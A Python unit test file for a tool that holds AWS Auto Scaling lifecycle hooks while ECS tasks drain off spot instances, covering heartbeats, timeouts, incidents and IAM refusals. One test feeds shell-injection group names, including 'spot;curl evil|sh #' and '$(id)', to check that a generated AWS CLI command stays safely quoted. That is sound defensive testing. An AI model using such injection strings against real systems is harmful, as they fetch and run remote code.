"""What becomes of an instance that a hook holds, one look at a time."""

from __future__ import annotations

import json
import shlex
from typing import Any
from unittest.mock import Mock, call

import pytest
from msgspec.structs import replace

from ecsops.errors import CallFailed
from spot_drain.hold import MAX_HOLD_S, gives_up_at
from spot_drain.holding import Holding
from spot_drain.lifecycle import HookDenied, HookOver
from spot_drain.lifecycle import Hooks as AnsweredHooks
from spot_drain.occupants import Occupants, Task
from spot_drain.open_incidents import OpenIncidents, may_be_stopped
from spot_drain.plan import Occupant
from spot_drain.taken import Taken
from spot_drain.watching import Hook, Watched
from tests.unit.spot_drain.builders import interruption, task_arn
from tests.unit.spot_drain.fakes import FakeBus

BEGAN = 1_000.0
HOOK = Hook("spot", "ecs-ops-drain", "token", BEGAN + 15, BEGAN + MAX_HOLD_S)
BUSY = Task(Occupant(task_arn(1), "RUNNING", "RUNNING"), interruption(), None)
WATCHED = Watched("i-1", "", "", BEGAN, None, HOOK, ())
KEY = WATCHED.key
EMPTY, UNKNOWN = (
    Occupants({KEY: []}),
    Occupants({KEY: []}, {KEY: CallFailed("DescribeTasks", "Throttling", "slow down")}),
)
REFUSED = CallFailed("CompleteLifecycleAction", "ValidationError", "no such group")
DENIED = HookDenied("CompleteLifecycleAction", "AccessDenied", "not tagged")
OVER = HookOver("CompleteLifecycleAction", "ValidationError", "No active Lifecycle Action found")


class Hooks:
    def __init__(self, problem: CallFailed | None = None, timeout_s: int = 30) -> None:
        self.problem, self.calls, self.timeout = problem, [], timeout_s

    def timeout_s(self, *_: str) -> int:
        return self.timeout

    def beat(self, _: Hook) -> None:
        self._answer("beat")

    def complete(self, _: Hook) -> None:
        self._answer("complete")

    def _answer(self, what: str) -> None:
        self.calls.append(what)
        if self.problem:
            raise self.problem


class Texts:
    """A set of texts, as the table keeps one."""

    def __init__(self) -> None:
        self.texts: set[str] = set()

    def add(self, texts: Any) -> None:
        self.texts |= set(texts)

    def remove(self, texts: Any) -> None:
        self.texts -= set(texts)

    def all(self) -> list[str]:
        return sorted(self.texts)


class Listed:
    """What ECS lists on an instance, and says of it, when it seems to be empty."""

    def __init__(self, listed: list[str] | CallFailed, described: Any = None) -> None:
        self.listed, self.described = listed, described

    def tasks_on(self, instances: Any, *, with_stopping: bool) -> Any:
        assert with_stopping
        return {found.arn: self.listed for found in instances}

    def describe(self, by_cluster: Any) -> Any:
        arns = [arn for tasks in by_cluster.values() for arn in tasks]
        return {arn.rpartition("/")[2]: self.described for arn in arns if self.described}


@pytest.fixture
def bus() -> FakeBus:
    return FakeBus()


@pytest.fixture
def look(bus):
    texts = Texts()

    def at(
        now: float,
        problem: CallFailed | None = None,
        watched: Watched = WATCHED,
        occupants: Occupants = EMPTY,
        *,
        timeout_s: int = 30,
        listed: Any = None,
        taken: dict[str, float] | None = None,
    ):
        hooks = Hooks(problem, timeout_s)
        incidents = OpenIncidents(bus, None, texts, Texts())  # type: ignore[arg-type]
        by_spot = Taken(Texts())  # type: ignore[arg-type]
        by_spot.note(taken or {})
        holding = Holding(hooks, listed, incidents, by_spot)  # type: ignore[arg-type]
        return holding.look([watched], occupants, now), hooks.calls

    return at


def states(bus: FakeBus) -> list[str]:
    return [detail["state"] for detail in bus.details]


def test_an_empty_instance_is_let_go_and_nobody_is_told(look, bus):
    assert look(BEGAN + 5) == ([], ["complete"])
    assert bus.details == []


def test_of_what_is_not_known_an_instance_is_held_and_not_let_go(look):
    [(again, at)], calls = look(BEGAN + 15, occupants=UNKNOWN)
    assert calls == ["beat"]
    assert again.hook.beat_at == BEGAN + 30
    assert at == BEGAN + 25


@pytest.mark.parametrize(
    ("timeout_s", "held_s"), [(30, 2_940), (60, 5_940), (72, 7_140), (73, 7_200), (3_600, 7_200)]
)
def test_a_hook_is_given_up_before_auto_scaling_ends_the_wait(timeout_s, held_s):
    """4b6: "48 hours or 100 times the heartbeat timeout, whichever is smaller"."""
    assert gives_up_at(BEGAN, timeout_s) == BEGAN + held_s


def test_a_timeout_that_could_not_be_read_at_first_is_reckoned_with_later(look):
    held = replace(WATCHED, hook=replace(HOOK, gives_up_at=gives_up_at(BEGAN, 30)))
    [(again, _)], _ = look(BEGAN + 15, watched=held, occupants=UNKNOWN, timeout_s=600)
    assert (again.hook.beat_at, again.hook.gives_up_at) == (BEGAN + 315, BEGAN + MAX_HOLD_S)


def test_a_wait_that_is_over_under_running_tasks_is_told_to_a_person(look, bus):
    assert look(BEGAN + 15, OVER, occupants=Occupants({KEY: [BUSY]})) == ([], ["beat"])
    [told] = bus.details
    assert (told["severity"], told["state"]) == ("warning", "resolved")
    assert task_arn(1) in str(told["evidence"])


def test_a_wait_that_ends_because_spot_takes_the_instance_is_no_news(look, bus):
    """The ordinary end of each of them, however many go together: nobody is woken for it."""
    busy = Occupants({KEY: [BUSY]})
    assert look(BEGAN + 130, OVER, occupants=busy, taken={"i-1": BEGAN + 120}) == ([], ["beat"])
    assert bus.details == []


@pytest.mark.parametrize("taken", [{"i-2": BEGAN + 120}, {"i-1": BEGAN - 3_600}])
def test_another_instance_that_spot_took_or_long_ago_explains_no_end(look, bus, taken):
    look(BEGAN + 130, OVER, occupants=Occupants({KEY: [BUSY]}), taken=taken)
    assert len(bus.details) == 1


def test_what_spot_took_is_remembered_for_an_hour():
    texts = Texts()
    taken = Taken(texts)  # type: ignore[arg-type]
    taken.note({"i-1": 1_000.0, "i-2": 4_000.0})
    taken.forget(4_600.0)
    assert texts.all() == ["i-2|4000"]
    assert taken.has("i-2", 4_600.0)
    assert not taken.has("i-1", 4_600.0)


def test_that_it_cannot_be_remembered_disturbs_nothing():
    class Refusing(Texts):
        def add(self, texts: Any) -> None:
            raise CallFailed("UpdateItem", "Throttling", "slow down")

    Taken(Refusing()).note({"i-1": 1_000.0})  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("perform", "operation", "more"),
    [
        (lambda hooks: hooks.beat(HOOK), "record_lifecycle_action_heartbeat", {}),
        (
            lambda hooks: hooks.complete(HOOK),
            "complete_lifecycle_action",
            {"LifecycleActionResult": "CONTINUE"},
        ),
    ],
)
def test_a_hook_is_answered_by_its_token_and_let_go_with_continue(perform, operation, more):
    """4b6: ABANDON would end the hooks of others too."""
    autoscaling = Mock()
    perform(AnsweredHooks(lambda: autoscaling))
    named = {
        "AutoScalingGroupName": "spot",
        "LifecycleHookName": "ecs-ops-drain",
        "LifecycleActionToken": "token",
    }
    assert autoscaling.method_calls == [getattr(call, operation)(**named, **more)]


def test_a_wait_that_is_over_when_nothing_runs_is_no_news(look, bus):
    assert look(BEGAN + 15, OVER) == ([], ["complete"])
    assert bus.details == []


REGISTERED = replace(WATCHED, arn="arn:instance", cluster_arn="arn:cluster")
RUNS, STOPPED = {"lastStatus": "RUNNING"}, {"lastStatus": "STOPPED"}


@pytest.mark.parametrize(
    ("listed", "let_go"),
    [
        (Listed([]), True),
        (Listed([task_arn(1)], STOPPED), True),
        (Listed([task_arn(1)]), True),
        (Listed([task_arn(1)], RUNS), False),
        (Listed([task_arn(1)], CallFailed("DescribeTasks", "Throttling", "")), False),
        (Listed(CallFailed("ListTasks", "Throttling", "")), False),
    ],
    ids=["nothing", "stopped", "forgotten", "runs", "not described", "not listed"],
)
def test_an_instance_that_seems_empty_is_let_go_only_if_ecs_lists_nothing_that_runs(
    look, listed, let_go
):
    due, calls = look(BEGAN + 5, watched=REGISTERED, listed=listed)
    assert (due == []) is let_go
    assert ("complete" in calls) is let_go


def test_what_has_come_to_an_instance_since_is_watched_like_the_rest(look):
    [(again, _)], _ = look(BEGAN + 5, watched=REGISTERED, listed=Listed([task_arn(1)], RUNS))
    assert again.tasks == (task_arn(1),)


def test_a_heartbeat_is_never_waited_past_however_seldom_the_looks_are(look):
    held = replace(WATCHED, hook=replace(HOOK, beat_at=BEGAN + 1_015), tasks=("a",))
    [(_, at)], _ = look(BEGAN + 1_000, REFUSED, held, EMPTY)
    assert at <= BEGAN + 1_015


def test_what_can_never_be_answered_is_given_up_told_once_and_ends(look, bus):
    now = HOOK.gives_up_at
    [(again, at)], _ = look(now, REFUSED)
    assert (states(bus), at) == (["open"], now + 300)
    [(again, at)], _ = look(at, REFUSED, again)
    assert states(bus) == ["open"]
    assert look(BEGAN + 48 * 3_600, REFUSED, again)[0] == []
    assert states(bus) == ["open", "resolved"]
    assert len({detail["incident"] for detail in bus.details}) == 1


def test_a_refusal_by_iam_is_told_once_and_tried_again(look, bus):
    [(again, at)], _ = look(BEGAN + 5, DENIED)
    assert (states(bus), at) == (["open"], BEGAN + 305)
    [(again, _)], _ = look(at, DENIED, again)
    assert states(bus) == ["open"]
    assert look(at + 300, None, again) == ([], ["complete"])
    assert states(bus) == ["open", "resolved"]


@pytest.mark.parametrize("name", ["spot", "spot;curl evil|sh #", "it's, mine", '"$(id)"'])
def test_the_command_to_copy_gives_the_groups_name_to_aws_and_nothing_to_the_shell(look, bus, name):
    look(BEGAN + 5, DENIED, replace(WATCHED, hook=replace(HOOK, group=name)))
    [told] = bus.details
    *words, tags = shlex.split(told["next_steps"][0]["command"])
    assert words == ["aws", "autoscaling", "create-or-update-tags", "--tags"]
    assert [tag["ResourceId"] for tag in json.loads(tags)] == [name]


def test_of_several_instances_of_a_group_the_last_one_closes_the_incident(look, bus):
    other = replace(WATCHED, instance_id="i-2", hook=replace(HOOK, token="other"))
    [(one, _)], _ = look(BEGAN, DENIED)
    [(two, _)], _ = look(BEGAN, DENIED, other, Occupants({other.key: []}))
    assert len({detail["incident"] for detail in bus.details}) == 1
    look(BEGAN + 600, OVER, one)
    assert "resolved" not in states(bus)
    look(BEGAN + 900, OVER, two, Occupants({other.key: []}))
    assert states(bus)[-1] == "resolved"


def test_an_instance_whose_watch_was_lost_does_not_hold_the_incident_open_for_ever(look, bus):
    lost = replace(WATCHED, instance_id="i-2", hook=replace(HOOK, gives_up_at=BEGAN + 100))
    look(BEGAN, DENIED, lost, Occupants({lost.key: []}))
    [(one, _)], _ = look(BEGAN, DENIED)
    look(BEGAN + 600, OVER, one)
    assert states(bus)[-1] == "resolved"


@pytest.mark.parametrize(
    ("given", "may"),
    [
        ({}, False),
        ({"aws:ecs:serviceName": "web"}, True),
        ({"aws:ecs:serviceName": "web", "ecs-ops:spot-drain": "dry-run"}, False),
        ({"ecs-ops:spot-drain": "on"}, True),
    ],
)
def test_what_may_be_stopped_is_what_the_policy_says(given, may):
    assert may_be_stopped({"tags": [{"key": k, "value": v} for k, v in given.items()]}) is may


def test_trouble_with_telling_one_keeps_no_other_from_being_held(bus):
    class Down(Texts):
        def add(self, texts: Any) -> None:
            raise CallFailed("UpdateItem", "InternalServerError", str(texts))

    hooks = {"a": Hooks(DENIED), "b": Hooks()}

    class Each(Hooks):
        def beat(self, hook: Hook) -> None:
            hooks[hook.token].beat(hook)

    incidents = OpenIncidents(bus, None, Down(), Texts())  # type: ignore[arg-type]
    holding = Holding(Each(), None, incidents, Taken(Texts()))  # type: ignore[arg-type]
    one, two = (
        replace(WATCHED, instance_id=f"i-{token}", hook=replace(HOOK, token=token))
        for token in hooks
    )
    occupants = Occupants({}, dict.fromkeys((one.key, two.key), REFUSED))

    due = dict(holding.look([one, two], occupants, BEGAN + 15))

    assert due[one] == BEGAN + 25, "not told: tried again soon"
    assert [each.hook.beat_at for each in due if each != one] == [BEGAN + 30]


def test_an_end_that_cannot_be_told_is_not_looked_at_for_ever(bus, look):
    bus.failing = True
    [(again, _)], _ = look(HOOK.gives_up_at, REFUSED)
    assert again == WATCHED, "not told yet"
    assert look(WATCHED.until, REFUSED)[0] == []
